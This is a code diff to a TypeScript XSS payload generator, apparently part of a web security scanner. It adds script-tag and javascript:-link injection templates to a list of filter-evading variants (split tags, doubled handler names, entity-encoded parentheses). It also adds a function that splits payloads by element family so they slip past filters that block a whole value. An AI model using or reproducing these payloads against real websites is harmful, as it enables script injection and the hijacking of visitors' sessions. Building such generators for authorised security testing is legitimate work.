@@ -32,6 +32,8 @@ const forms: readonly Part[] = [
   ['itself', (call) => `<svg ononloadload=${call}>`],
   ['itself', (call) => `<scr<script>ipt>${call}</scr</script>ipt>`],
   ['itself', (call) => `<svg onload=${call.replace('(', '&lpar;').replace(')', '&rpar;')}>`],
+  ['itself', (call) => `<script>${call}</script>`],
+  ['click', (call) => `<a href=javascript:${call}>a</a>`],
   ['itself', (call) => `<img src onerror=${call} //`],
 ]
 
@@ -75,6 +77,25 @@ function together(context: string, end: string, parts: readonly Part[], from: nu
       `${end}${parts.map(([, write], index) => write(callMarker(word, String(from + index)))).join(' ')}`,
     parts: Object.fromEntries(numbered),
   }
+}
+
+/** For filters that refuse the whole value because of one element. */
+export function splitByElement({ context, parts = {} }: XssPayload): readonly XssPayload[] {
+  const groups = new Map<string, [string, XssPayload][]>()
+  for (const [number, part] of Object.entries(parts)) {
+    const [, element = ''] = /<([a-z][\w-]*)/i.exec(part.write('x')) ?? []
+    const family = /^(?:a|b)$|-/i.test(element)
+      ? 'text'
+      : /^(?:svg|math)$/i.test(element)
+        ? 'drawing'
+        : 'media'
+    groups.set(family, [...(groups.get(family) ?? []), [number, part]])
+  }
+  if (groups.size < 2) return []
+  return [...groups.values()].map((own) => ({
+    ...{ context, runs: 'event', parts: Object.fromEntries(own) },
+    write: (word) => own.map(([, part]) => part.write(word)).join(' '),
+  }))
 }
 
 function handlersIn(quote: string, context: string): XssPayload {
